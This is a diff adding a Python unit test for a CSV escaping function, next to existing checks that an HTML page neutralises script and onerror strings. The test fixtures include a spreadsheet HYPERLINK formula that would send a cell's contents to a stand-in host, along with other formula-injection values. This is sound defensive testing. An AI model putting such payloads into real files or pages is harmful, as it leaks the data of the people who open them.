@@ -109,3 +109,28 @@ def test_the_model_card_page_shows_html_as_text(tmp_path):
     assert "<script>alert" not in body and "onerror=alert" not in body.replace("&lt;img src=x onerror", "")
     assert 'href="javascript' not in body and '<img src="figure.png" alt="figure"' in body
     assert body.count("<table>") == 1 and body.count("</table>") == 1
+
+
+def test_a_csv_for_spreadsheets_shows_formulas_from_the_data_as_text():
+    """``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab or a carriage return first: a spreadsheet would run it; the
+    cell gets a leading ``'``. Numbers (negative ones too) and missing values are left as they are."""
+    import pandas as pd
+
+    from livinglab.escaping import spreadsheet_safe
+
+    frame = pd.DataFrame(
+        {
+            "region": ['=HYPERLINK("http://x.example/?"&A1,"open")', "Nord", None, "@SUM(A1)", "\tcmd"],
+            "sex": pd.Categorical(["+1", "female", "male", "male", "-x"]),
+            "change": [-1.5, 2.0, 0.0, -3.0, 1.0],
+            "mixed": ["-2", -2, "ok", None, "\rx"],
+        }
+    )
+    safe = spreadsheet_safe(frame)
+    assert safe["region"].tolist()[:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "Nord"]
+    assert safe["region"].isna().tolist() == [False, False, True, False, False]
+    assert safe["region"].iloc[3:].tolist() == ["'@SUM(A1)", "'\tcmd"]
+    assert safe["sex"].tolist() == ["'+1", "female", "male", "male", "'-x"]
+    assert safe["change"].tolist() == [-1.5, 2.0, 0.0, -3.0, 1.0]
+    assert safe["mixed"].tolist()[:3] == ["'-2", -2, "ok"] and safe["mixed"].iloc[4] == "'\rx"
+    assert frame["region"].iloc[0].startswith("=")  # the caller's frame is not changed
